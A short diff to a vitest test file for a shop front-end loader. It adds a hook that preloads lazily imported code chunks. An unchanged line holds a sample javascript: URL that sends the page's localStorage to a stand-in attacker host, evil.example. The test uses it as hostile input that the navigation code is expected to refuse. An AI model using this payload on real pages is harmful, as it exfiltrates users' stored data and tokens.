@@ -1,8 +1,12 @@
 // @vitest-environment-options {"url": "http://localhost:4000/shop"}
-import { afterEach, describe, expect, it, vi } from 'vitest';
+import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { boot } from '../../../src/loader';
 import { REDIRECT_SESSION_PATH, refusalOf } from '../../helpers/navigation';
 import { SANDBOX_ORIGIN, testSandbox } from '../../helpers/sandbox';
+import { CHUNK_TIMEOUT_MS, importChunks } from '../../helpers/widget';
+
+// What the code loads on first use (`import()`), here once: the tests wait for it, not for vitest loading it.
+beforeAll(() => importChunks('cartEdits', 'cartV1', 'redirects', 'memberActions'), CHUNK_TIMEOUT_MS);
 
 const HOSTILE = 'javascript:fetch("https://evil.example/?"+JSON.stringify(localStorage))';
 const REFUSAL = refusalOf(HOSTILE);
